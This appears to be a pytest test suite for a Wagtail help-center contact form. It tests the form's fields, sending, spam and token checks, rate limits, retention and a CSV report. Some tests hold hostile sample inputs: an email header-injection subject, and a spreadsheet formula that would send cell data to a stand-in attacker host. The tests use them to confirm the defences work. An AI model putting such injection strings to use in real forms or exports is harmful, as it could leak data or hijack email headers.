"""The contact form ("Still need help?"), through the real views: the link, the form,
sending, refusals, suggestions, counting, delivery, retention and the report."""

import csv
import datetime
import io
import logging

import pytest
from django.contrib.auth.models import Group, Permission
from django.core import mail, signing
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.functional import lazy
from wagtail import hooks

from tests.factories import (
    ArticlePageFactory,
    CategoryPageFactory,
    FAQPageFactory,
    UserFactory,
    add_faq_items,
)
from tests.utils import soup
from wagtail_helpcenter import contact
from wagtail_helpcenter.models import (
    ContactRequest,
    ContentGap,
    FunnelDay,
    HelpCenterPage,
    PageViewDay,
)
from wagtail_helpcenter.models.deflection import CONTACT_MESSAGE_MAX_LENGTH

pytestmark = pytest.mark.django_db

BOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
QUERIES_TO_OPEN_THE_FORM = 18
FORM_ON = {"CONTACT_FORM": True, "CONTACT_EMAIL": ["support@example.com"]}


@pytest.fixture
def form_center(help_center):
    """The help center without a contact link of its own: the built-in form serves it."""
    help_center.contact_url = ""
    help_center.save()
    return help_center


def form_url(help_center):
    return help_center.url + "contact/"


def open_form(client, help_center, **params):
    response = client.get(form_url(help_center), params)
    assert response.status_code == 200, response.status_code
    return response


def token_of(response):
    return _page(response).select_one("input[name=token]")["value"]


def send(client, help_center, token=None, **fields):
    if token is None:
        token = token_of(open_form(client, help_center))
    data = {
        "name": "Ana Lima",
        "email": "ana@example.com",
        "subject": "Refund for a double charge",
        "message": "I was charged twice this month.\nOrder 1234.",
        "token": token,
        **fields,
    }
    return client.post(form_url(help_center), data)


def funnel(help_center):
    return FunnelDay.objects.filter(help_center=help_center).first()


def errors_of(response):
    return [
        item.get_text(" ", strip=True) for item in _page(response).select(".hc-error-summary li")
    ]


def _page(response):
    from bs4 import BeautifulSoup

    return BeautifulSoup(response.content, "html.parser")


# Settings -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key, value",
    [("CONTACT_FORM", "yes"), ("CONTACT_EMAIL", "support@example.com"),
     ("CONTACT_RESPONSE_TIME", ""), ("CONTACT_REQUESTS_PER_ADDRESS", 0),
     ("CONTACT_REQUESTS_PER_EMAIL", None), ("CONTACT_RETENTION_DAYS", -1)],
)  # fmt: skip
def test_bad_settings_are_reported(key, value):
    from wagtail_helpcenter import checks

    with override_settings(WAGTAIL_HELPCENTER={key: value}):
        assert [message.id for message in checks.check_settings(None)] == [
            "wagtail_helpcenter.E003"
        ]
    with override_settings(WAGTAIL_HELPCENTER={**FORM_ON, "CONTACT_RESPONSE_TIME": "soon"}):
        assert checks.check_settings(None) == []


# The link -------------------------------------------------------------------------------


class TestStillNeedHelp:
    def test_an_article_links_to_the_form_with_its_id(self, client, form_center, article):
        link = soup(client.get(article.url)).select_one(".hc-contact a")
        assert link["href"] == f"{form_center.url}contact/?from={article.pk}"

    def test_a_faq_page_too_and_the_home_without_an_id(self, client, form_center, category):
        faq = add_faq_items(
            FAQPageFactory(parent=category, title="Billing FAQ", slug="faq"), ("Q?", "<p>A.</p>")
        )
        assert (
            soup(client.get(faq.url))
            .select_one(".hc-contact a")["href"]
            .endswith(f"contact/?from={faq.pk}")
        )
        home = soup(client.get(form_center.url)).select_one(".hc-contact a")
        assert home["href"] == f"{form_center.url}contact/"

    def test_the_sites_own_contact_page_wins(self, client, help_center, article):
        assert help_center.contact_url == "/contact/"
        assert soup(client.get(article.url)).select_one(".hc-contact a")["href"] == "/contact/"
        assert client.get(form_url(help_center)).status_code == 404
        assert client.post(form_url(help_center) + "suggestion/").status_code == 404

    @override_settings(WAGTAIL_HELPCENTER={})
    def test_off_by_default(self, client, form_center, article):
        assert not soup(client.get(article.url)).select(".hc-contact")
        assert client.get(form_url(form_center)).status_code == 404
        assert send(client, form_center, token="x").status_code == 404
        assert not ContactRequest.objects.exists()


# The form -------------------------------------------------------------------------------


class TestTheForm:
    def test_every_field_is_labelled_and_the_honeypot_hidden(self, client, form_center, article):
        page = soup(open_form(client, form_center))
        assert page.select_one(".hc .hc-header")  # the help center's look
        form = page.select_one("form[data-hc-contact]")
        assert form["method"] == "post" and form["action"] == form_url(form_center)
        assert form.select_one("input[name=csrfmiddlewaretoken]")
        for name in ("name", "email", "subject", "category", "message", "website"):
            control = form.select_one(f"[name={name}]")
            assert form.select_one(f"label[for={control['id']}]"), name
        honeypot = form.select_one("[name=website]")
        assert honeypot.find_parent(class_="hc-honeypot")["aria-hidden"] == "true"
        assert honeypot["tabindex"] == "-1"
        assert "Leave this field empty" in honeypot.find_parent().get_text()
        assert not page.select(".hc-contact")  # no "Still need help?" under the form

    def test_topics_are_the_categories_the_visitor_may_see(
        self, client, form_center, article, internal_article, staff_user
    ):
        options = soup(open_form(client, form_center)).select("select[name=category] option")
        assert [option.get_text() for option in options[1:]] == ["Billing"]
        client.force_login(staff_user)
        options = soup(open_form(client, form_center)).select("select[name=category] option")
        assert [option.get_text() for option in options[1:]] == ["Billing", "Support playbook"]

    def test_an_internal_topic_is_refused_to_a_visitor(
        self, client, form_center, article, internal_article
    ):
        response = send(client, form_center, category=str(internal_article.get_parent().pk))
        assert response.status_code == 400
        assert not ContactRequest.objects.exists()

    def test_topics_in_the_help_centers_language(
        self, client, form_center, category, article, dutch
    ):
        from tests.test_languages import translate

        translate(form_center.get_parent(), dutch)
        dutch_center = translate(form_center, dutch, title="Acme Hulp")
        translate(category, dutch, title="Facturering")
        translate(article, dutch, title="Een factuur downloaden")
        page = soup(open_form(client, dutch_center))
        options = page.select("select[name=category] option")
        assert [option.get_text() for option in options[1:]] == ["Facturering"]
        assert page.select_one("form[data-hc-contact]")["action"] == "/nl/help/contact/"

    def test_opens_in_a_bounded_number_of_queries(
        self, client, form_center, category, django_assert_max_num_queries
    ):
        for number in range(8):
            section = CategoryPageFactory(parent=form_center, title=f"Topic {number}")
            ArticlePageFactory(parent=section, title=f"Article {number}")
        with django_assert_max_num_queries(QUERIES_TO_OPEN_THE_FORM):
            options = soup(open_form(client, form_center)).select("select[name=category] option")
        assert len(options) == 1 + 8

    def test_other_methods_are_not_allowed(self, client, form_center):
        assert client.put(form_url(form_center)).status_code == 405
        assert client.get(form_url(form_center) + "suggestion/").status_code == 405


# Sending --------------------------------------------------------------------------------


class TestSending:
    def test_a_request_is_stored_emailed_and_thanked_for(self, client, form_center, article):
        category = article.get_parent()
        response = send(client, form_center, category=str(category.pk))
        assert response.status_code == 303
        assert response["Location"] == form_url(form_center) + "?sent=1"
        saved = ContactRequest.objects.get()
        assert (saved.name, saved.email, saved.subject) == (
            "Ana Lima",
            "ana@example.com",
            "Refund for a double charge",
        )
        assert saved.message == "I was charged twice this month.\nOrder 1234."
        assert (saved.help_center_id, saved.locale_id) == (form_center.pk, form_center.locale_id)
        assert saved.category_id == category.pk and saved.source_page is None
        assert len(saved.network_key) == len(saved.mailbox_key) == 64
        assert "ana" not in saved.mailbox_key and "127.0.0.1" not in saved.network_key

        support, acknowledgement = mail.outbox
        assert support.to == ["support@example.com"]
        assert support.reply_to == ["ana@example.com"]
        assert support.subject == "[Acme Help] Refund for a double charge"
        assert "I was charged twice this month." in support.body
        assert "Topic: Billing" in support.body
        assert acknowledgement.to == ["ana@example.com"]
        assert "within 24 hours" in acknowledgement.body
        # Nothing the visitor typed goes to the address they typed.
        for text in ("Refund", "charged", "Ana"):
            assert text not in acknowledgement.body + acknowledgement.subject

        thanks = soup(client.get(response["Location"]))
        assert "We will answer within 24 hours." in thanks.select_one("[role=status]").get_text()
        assert not thanks.select("form[data-hc-contact]")

    @override_settings(WAGTAIL_HELPCENTER={**FORM_ON, "CONTACT_EMAIL": []})
    def test_no_support_address_sends_the_acknowledgement_only(self, client, form_center):
        assert send(client, form_center).status_code == 303
        assert [message.to for message in mail.outbox] == [["ana@example.com"]]

    def test_header_injection_in_the_subject(self, client, form_center):
        subject = "Help\r\nBcc: victim@example.com\u2028X-Evil: 1\x00"
        assert send(client, form_center, subject=subject).status_code == 303
        saved = ContactRequest.objects.get()
        assert saved.subject == "Help Bcc: victim@example.com X-Evil: 1"
        for message in mail.outbox:
            assert "\n" not in message.subject and "\r" not in message.subject
            assert message.bcc == [] and "victim@example.com" not in message.to
            assert message.message()["X-Evil"] is None

    def test_response_time_setting(self, client, form_center):
        with override_settings(
            WAGTAIL_HELPCENTER={**FORM_ON, "CONTACT_RESPONSE_TIME": "within two working days"}
        ):
            assert send(client, form_center).status_code == 303
            assert "within two working days" in mail.outbox[-1].body
            page = client.get(form_url(form_center), {"sent": "1"}).content.decode()
            assert "We will answer within two working days." in page

    def test_emails_are_in_the_help_centers_language(self, client, form_center, dutch):
        from tests.test_languages import translate

        translate(form_center.get_parent(), dutch)
        dutch_center = translate(form_center, dutch, title="Acme Hulp", contact_url="")
        language = lazy(translation.get_language, str)()
        with override_settings(WAGTAIL_HELPCENTER={**FORM_ON, "CONTACT_RESPONSE_TIME": language}):
            # Sent from an English page address: the emails follow the help center.
            assert send(client, dutch_center).status_code == 303
        assert "We will answer nl, by email" in mail.outbox[-1].body
        assert ContactRequest.objects.get().locale == dutch


@pytest.mark.search
class TestMatchingArticles:
    def test_the_help_center_search_counts_matches(
        self, client, form_center, category, search_index
    ):
        ArticlePageFactory(parent=category, title="Get a refund", slug="refund")
        search_index.refresh_indexes()
        assert send(client, form_center, subject="refund").status_code == 303
        assert ContactRequest.objects.get().matching_articles == 1
        assert not ContentGap.objects.exists()
        assert "Articles the help center finds for the subject: 1" in mail.outbox[0].body

    def test_a_subject_nothing_matches_is_a_content_gap(
        self, client, form_center, category, article, search_index
    ):
        send(client, form_center, subject="Teleport my  Parcel", category=str(category.pk))
        # Another visitor (one visitor counts once a day: test_review_deflection).
        other = Client(REMOTE_ADDR="198.51.100.9")
        send(other, form_center, subject="teleport my parcel", email="bo@example.com")
        assert ContactRequest.objects.filter(matching_articles=0).count() == 2
        gap = ContentGap.objects.get()
        assert (gap.kind, gap.key, gap.title) == (
            "contact",
            "teleport my parcel",
            "Teleport my Parcel",
        )
        assert (gap.help_center_id, gap.page_id, gap.occurrences) == (
            form_center.pk,
            category.pk,
            2,
        )

    def test_internal_articles_do_not_match_for_a_visitor(
        self, client, form_center, internal_article, search_index
    ):
        send(client, form_center, subject="Refund escalation steps")
        assert ContactRequest.objects.get().matching_articles == 0
        assert ContentGap.objects.filter(kind="contact").exists()


# Where the visitor came from --------------------------------------------------------------


class TestFrom:
    def test_the_article_read_is_counted(self, client, form_center, article):
        response = open_form(client, form_center, **{"from": str(article.pk)})
        assert soup(response).select_one("input[name=from]")["value"] == str(article.pk)
        send(client, form_center, token=token_of(response), **{"from": str(article.pk)})
        assert ContactRequest.objects.get().source_page_id == article.pk
        assert PageViewDay.objects.get(page=article).contacts == 1
        assert f"Sent after reading: {article.title}" in mail.outbox[0].body

    def test_an_internal_page_is_never_revealed_nor_counted(
        self, client, form_center, article, internal_article
    ):
        def page_for(page_id):
            response = client.get(form_url(form_center), {"from": page_id})
            page = soup(response)
            # The visitor's own ?from= comes back in its hidden field, whatever it names.
            assert page.select_one("input[name=from]")["value"] == str(page_id)
            hidden = "input[name=token], input[name=csrfmiddlewaretoken], input[name=from]"
            for field in page.select(hidden):
                field.decompose()
            return response.status_code, str(page)

        missing = internal_article.pk + 1000
        assert page_for(internal_article.pk) == page_for(missing)

        answers = []
        for page_id in (internal_article.pk, missing):
            response = send(client, form_center, **{"from": str(page_id)})
            answers.append((response.status_code, response["Location"]))
            cache.clear()
        assert answers[0] == answers[1]
        assert set(ContactRequest.objects.values_list("source_page", flat=True)) == {None}
        assert not PageViewDay.objects.filter(contacts__gt=0).exists()
        assert all(internal_article.title not in message.body for message in mail.outbox)

    def test_staff_may_name_an_internal_page_but_are_not_counted(
        self, client, form_center, internal_article, staff_user
    ):
        client.force_login(staff_user)
        send(client, form_center, **{"from": str(internal_article.pk)})
        assert ContactRequest.objects.get().source_page_id == internal_article.pk
        assert not PageViewDay.objects.filter(contacts__gt=0).exists()  # an editor

    @pytest.mark.parametrize("raw", ["abc", "-1", "0", "9" * 30, "1e3", "²", " "])
    def test_hostile_ids_are_ignored(self, client, form_center, raw):
        assert client.get(form_url(form_center), {"from": raw}).status_code == 200
        assert send(client, form_center, **{"from": raw}).status_code == 303
        assert ContactRequest.objects.get().source_page is None

    def test_a_page_of_another_help_center_is_ignored(self, client, form_center, site_home):
        from tests.factories import HelpCenterPageFactory

        other = HelpCenterPageFactory(parent=site_home, title="Other", slug="other")
        elsewhere = ArticlePageFactory(parent=CategoryPageFactory(parent=other), title="X")
        send(client, form_center, **{"from": str(elsewhere.pk)})
        assert ContactRequest.objects.get().source_page is None


# Refusals -------------------------------------------------------------------------------


def assert_kept(response, **fields):
    """Every bit of the visitor's text is back in the form, to copy or send again."""
    page = _page(response)
    for name, value in fields.items():
        control = page.select_one(f"[name={name}]")
        shown = control.get_text() if control.name == "textarea" else control.get("value")
        assert shown == value, name


def assert_nothing_happened():
    assert not ContactRequest.objects.exists()
    assert not mail.outbox


class TestRefusals:
    def test_the_honeypot(self, client, form_center):
        response = send(client, form_center, website="http://spam.example")
        assert response.status_code == 400
        assert errors_of(response) == ["Your request could not be sent."]
        assert_kept(response, subject="Refund for a double charge", name="Ana Lima")
        assert _page(response).select_one("[name=website]").get("value") is None
        assert_nothing_happened()

    def test_robots_see_the_form_but_cannot_send(self, client, form_center):
        assert client.get(form_url(form_center), headers={"User-Agent": BOT}).status_code == 200
        token = token_of(open_form(client, form_center))
        response = client.post(
            form_url(form_center),
            {"name": "x", "email": "x@example.com", "subject": "s", "message": "m", "token": token},
            headers={"User-Agent": BOT},
        )
        assert response.status_code == 400
        assert_nothing_happened()
        assert funnel(form_center).contact_opened == 1  # the visitor's opening only

    def test_invalid_fields_are_linked_to_their_errors(self, client, form_center):
        message = "Line one\nLine two <b>bold</b>"
        response = send(client, form_center, email="not an address", name="", message=message)
        assert response.status_code == 400
        page = _page(response)
        summary = page.select_one("#hc-contact-errors")
        assert summary["tabindex"] == "-1" and summary.has_attr("autofocus")
        assert summary["role"] == "alert"
        links = [link["href"] for link in summary.select("a")]
        assert links == ["#hc-contact-name", "#hc-contact-email"]
        email = page.select_one("#hc-contact-email")
        assert email["aria-invalid"] == "true"
        assert page.select_one("#" + email["aria-describedby"]).get_text(strip=True)
        assert not page.select_one("#hc-contact-subject").has_attr("aria-invalid")
        assert_kept(response, email="not an address", subject="Refund for a double charge")
        assert_kept(response, message=message)
        assert_nothing_happened()

    def test_over_long_text_is_kept_whole(self, client, form_center):
        long_message = "x" * (CONTACT_MESSAGE_MAX_LENGTH + 1)
        long_subject = "s" * 201
        response = send(client, form_center, message=long_message, subject=long_subject)
        assert response.status_code == 400
        assert len(errors_of(response)) == 2
        assert_kept(response, message=long_message, subject=long_subject)
        assert_nothing_happened()

    def test_a_token_that_is_missing_forged_expired_or_of_another_help_center(
        self, client, form_center, site_home, monkeypatch
    ):
        from tests.factories import HelpCenterPageFactory

        other = HelpCenterPageFactory(parent=site_home, slug="other", contact_url="")
        with monkeypatch.context() as patched:
            patched.setattr(signing.time, "time", lambda: 1_000_000_000.0)
            expired = contact.new_token(form_center)
        forged = signing.dumps({"n": "x", "h": form_center.pk}, salt="other")
        for token in ("", "nonsense", "a:b:c", forged, expired, contact.new_token(other)):
            response = send(client, form_center, token=token)
            assert response.status_code == 400, token
            assert "open for too long" in " ".join(errors_of(response))
            fresh = token_of(response)
            assert contact.nonce_of(fresh, form_center)  # a new token to send again with
        assert_nothing_happened()
        assert send(client, form_center, token=fresh).status_code == 303

    def test_csrf(self, form_center):
        strict = Client(enforce_csrf_checks=True)
        token = token_of(open_form(strict, form_center))
        response = strict.post(
            form_url(form_center),
            {"name": "a", "email": "a@example.com", "subject": "s", "message": "m", "token": token},
        )
        assert response.status_code == 403
        assert (
            strict.post(form_url(form_center) + "suggestion/", {"token": token}).status_code == 403
        )
        assert_nothing_happened()
        assert not FunnelDay.objects.filter(suggestion_opened__gt=0).exists()


class TestRateLimits:
    @override_settings(WAGTAIL_HELPCENTER={**FORM_ON, "CONTACT_REQUESTS_PER_ADDRESS": 2})
    def test_per_network_counted_in_the_database(self, client, form_center):
        for number in range(2):
            assert send(client, form_center, email=f"p{number}@example.com").status_code == 303
            cache.clear()  # another worker: nothing shared but the database
        response = send(client, form_center, email="p9@example.com", message="Keep me")
        assert response.status_code == 429
        assert "from your network" in " ".join(errors_of(response))
        assert_kept(response, message="Keep me", email="p9@example.com")
        assert ContactRequest.objects.count() == 2
        # Another network may; an IPv6 neighbour in the same /64 may not.
        other = Client(REMOTE_ADDR="203.0.113.9")
        assert send(other, form_center, email="q@example.com").status_code == 303
        v6 = [Client(REMOTE_ADDR=f"2001:db8::{n}") for n in (1, 2, 3)]
        assert [
            send(c, form_center, email=f"v{i}@example.com").status_code for i, c in enumerate(v6)
        ] == [303, 303, 429]

    @override_settings(WAGTAIL_HELPCENTER={**FORM_ON, "CONTACT_REQUESTS_PER_EMAIL": 2})
    def test_per_mailbox_however_it_is_written(self, form_center):
        addresses = ["Ana.Lima@gmail.com", "analima+help@googlemail.com", "ANALIMA@gmail.com"]
        statuses = []
        for number, address in enumerate(addresses):
            visitor = Client(REMOTE_ADDR=f"198.51.100.{number + 1}")
            statuses.append(send(visitor, form_center, email=address).status_code)
            cache.clear()
        assert statuses == [303, 303, 429]
        assert ContactRequest.objects.count() == 2

    @override_settings(WAGTAIL_HELPCENTER={**FORM_ON, "CONTACT_REQUESTS_PER_ADDRESS": 1})
    def test_the_window_is_an_hour(self, client, form_center):
        assert send(client, form_center).status_code == 303
        assert send(client, form_center).status_code == 429
        ContactRequest.objects.update(created_at=timezone.now() - datetime.timedelta(minutes=61))
        assert send(client, form_center).status_code == 303


# Counting -------------------------------------------------------------------------------


class TestCounting:
    def test_an_opening_counts_once_per_visitor_and_day(self, client, form_center, staff_user):
        for _ in range(3):
            open_form(client, form_center)
        Client(REMOTE_ADDR="203.0.113.5").get(form_url(form_center))
        client.get(form_url(form_center), headers={"User-Agent": BOT})
        client.get(form_url(form_center), {"sent": "1"})
        editor = Client(REMOTE_ADDR="203.0.113.6")
        editor.force_login(staff_user)
        editor.get(form_url(form_center))
        assert funnel(form_center).contact_opened == 2
        assert funnel(form_center).locale_id == form_center.locale_id

    def test_a_request_sent_counts(self, client, form_center):
        send(client, form_center)
        send(client, form_center)
        day = funnel(form_center)
        assert (day.contact_opened, day.contact_sent, day.suggestion_then_sent) == (1, 2, 0)


class TestSuggestions:
    def beacon(self, client, help_center, token, **headers):
        return client.post(form_url(help_center) + "suggestion/", {"token": token}, headers=headers)

    def test_the_form_offers_the_json_search(self, client, form_center):
        form = soup(open_form(client, form_center)).select_one("form[data-hc-contact]")
        assert form["data-search-url"] == form_center.url + "search/"
        assert form["data-beacon-url"] == form_url(form_center) + "suggestion/"
        assert soup(open_form(client, form_center)).select_one(
            "script[src$='wagtail_helpcenter/js/contact.js']"
        )

    def test_an_opened_suggestion_counts_once_per_token_then_sent_once(self, client, form_center):
        token = token_of(open_form(client, form_center))
        assert self.beacon(client, form_center, token).status_code == 204
        assert self.beacon(client, form_center, token).status_code == 204  # replayed
        # Replayed from another network: the token counts once, whoever sends it.
        assert (
            self.beacon(Client(REMOTE_ADDR="203.0.113.77"), form_center, token).status_code == 204
        )
        assert funnel(form_center).suggestion_opened == 1
        send(client, form_center, token=token)
        send(client, form_center, token=token, email="again@example.com")
        day = funnel(form_center)
        assert (day.suggestion_opened, day.suggestion_then_sent, day.contact_sent) == (1, 1, 2)
        assert day.deflected == 0

    def test_new_forms_do_not_inflate_it(self, client, form_center):
        for _ in range(3):
            self.beacon(client, form_center, token_of(open_form(client, form_center)))
        assert funnel(form_center).suggestion_opened == 1

    def test_a_deflection_is_a_suggestion_opened_and_nothing_sent(self, client, form_center):
        self.beacon(client, form_center, token_of(open_form(client, form_center)))
        send(client, form_center, token=token_of(open_form(client, form_center)))
        day = funnel(form_center)
        assert (day.suggestion_opened, day.suggestion_then_sent, day.deflected) == (1, 0, 1)

    def test_bad_tokens_and_robots(self, client, form_center, site_home):
        from tests.factories import HelpCenterPageFactory

        other = HelpCenterPageFactory(parent=site_home, slug="other", contact_url="")
        for token in ("", "forged", contact.new_token(other), "x" * 10_000):
            response = self.beacon(client, form_center, token)
            assert response.status_code == 400
            assert response.json()["error"]
        token = contact.new_token(form_center)
        assert self.beacon(client, form_center, token, User_Agent=BOT).status_code == 204
        assert not FunnelDay.objects.exists()


# Hooks ----------------------------------------------------------------------------------


class TestHooks:
    def test_every_hook_gets_the_request(self, client, form_center):
        received = []
        with hooks.register_temporarily(
            "helpcenter_contact_request", lambda request, saved: received.append((request, saved))
        ):
            send(client, form_center)
        ((request, saved),) = received
        assert saved == ContactRequest.objects.get() and request.method == "POST"

    def test_a_failing_hook_is_logged_and_loses_nothing(self, client, form_center, caplog):
        def broken(request, saved):
            raise RuntimeError("helpdesk down")

        later = []
        with (
            hooks.register_temporarily("helpcenter_contact_request", broken),
            hooks.register_temporarily("helpcenter_contact_request", lambda r, c: later.append(c)),
            caplog.at_level(logging.ERROR, logger="wagtail_helpcenter.contact"),
        ):
            response = send(client, form_center)
        assert response.status_code == 303
        assert ContactRequest.objects.count() == 1 and len(mail.outbox) == 2
        assert later  # the next hook still ran
        assert "helpdesk down" in caplog.text

    def test_a_failing_mail_server_loses_nothing(self, client, form_center, monkeypatch, caplog):
        def refuse(*args, **kwargs):
            raise ConnectionRefusedError("smtp down")

        monkeypatch.setattr("django.core.mail.EmailMessage.send", refuse)
        assert send(client, form_center).status_code == 303
        assert ContactRequest.objects.count() == 1
        assert "smtp down" in caplog.text


# Retention ------------------------------------------------------------------------------


class TestRetention:
    def make(self, help_center, days_ago):
        saved = ContactRequest.objects.create(
            help_center=help_center, locale_id=help_center.locale_id, name="n",
            email="n@example.com", subject=f"{days_ago} days", message="m",
            network_key="k", mailbox_key="k",
        )  # fmt: skip
        created = timezone.now() - datetime.timedelta(days=days_ago)
        ContactRequest.objects.filter(pk=saved.pk).update(created_at=created)
        return saved

    def test_old_requests_go_with_each_new_one(self, client, form_center):
        self.make(form_center, 91)
        kept = self.make(form_center, 89)
        send(client, form_center)
        assert set(ContactRequest.objects.values_list("subject", flat=True)) == {
            kept.subject,
            "Refund for a double charge",
        }

    def test_the_cleanup_command(self, form_center):
        self.make(form_center, 120)
        self.make(form_center, 10)
        out = io.StringIO()
        call_command("helpcenter_cleanup", "--dry-run", stdout=out)
        assert "1 contact requests older than 90 days would be deleted" in out.getvalue()
        assert ContactRequest.objects.count() == 2
        with override_settings(WAGTAIL_HELPCENTER={**FORM_ON, "CONTACT_RETENTION_DAYS": 5}):
            call_command("helpcenter_cleanup", stdout=out)
        assert "2 contact requests older than 5 days deleted" in out.getvalue()
        assert not ContactRequest.objects.exists()


# The report -----------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


class TestReport:
    @pytest.fixture
    def sent(self, client, form_center, category, article):
        send(client, form_center, subject=FORMULA, category=str(category.pk),
             **{"from": str(article.pk)})  # fmt: skip
        return ContactRequest.objects.get()

    def test_editors_read_the_requests(self, client, sent, staff_user, form_center):
        editor = UserFactory(
            username="editor", is_staff=True, groups=[Group.objects.get(name="Editors")]
        )
        client.force_login(editor)
        url = reverse("wagtail_helpcenter_contact_requests")
        page = client.get(url)
        assert page.status_code == 200
        text = page.content.decode()
        assert "I was charged twice this month." in text and "ana@example.com" in text
        assert "Download an invoice" in text
        filtered = {
            "help_center": form_center.pk,
            "locale": form_center.locale_id,
            "created_at_from": timezone.localdate().isoformat(),
        }
        assert "ana@example.com" in client.get(url, filtered).content.decode()
        none = client.get(url, {"created_at_to": "2000-01-01"}).content.decode()
        assert "ana@example.com" not in none
        assert client.get(url, {"help_center": "9" * 30}).status_code == 200
        assert "helpcenter-contact" in client.get(reverse("wagtailadmin_home")).content.decode()

    def test_csv_export_neutralises_formulas(self, client, sent):
        client.force_login(UserFactory(username="boss", is_superuser=True, is_staff=True))
        response = client.get(reverse("wagtail_helpcenter_contact_requests"), {"export": "csv"})
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(body)))
        assert rows[0][:5] == ["Sent at", "Subject", "Message", "Name", "Email"]
        assert rows[1][1] == "'" + FORMULA
        assert rows[1][5:7] == ["Billing", "Download an invoice"]
        xlsx = client.get(reverse("wagtail_helpcenter_contact_requests"), {"export": "xlsx"})
        assert xlsx.status_code == 200

    def test_only_for_who_may_see_the_dashboard(self, client, sent, customer):
        customer.is_staff = True
        customer.save()
        customer.user_permissions.add(Permission.objects.get(codename="access_admin"))
        client.force_login(customer)
        response = client.get(reverse("wagtail_helpcenter_contact_requests"))
        assert response.status_code in (302, 403)
        home = client.get(reverse("wagtailadmin_home")).content.decode()
        assert "helpcenter-contact" not in home
        assert HelpCenterPage.objects.count() == 1


@override_settings(WAGTAIL_HELPCENTER={"CONTACT_FORM": True, "BEACONS_PER_ADDRESS": 2})
def test_the_suggestion_report_is_rate_limited(client, form_center):
    url = form_url(form_center) + "suggestion/"
    answers = [client.post(url, {"token": "x"}).status_code for _ in range(3)]
    assert answers == [400, 400, 429]
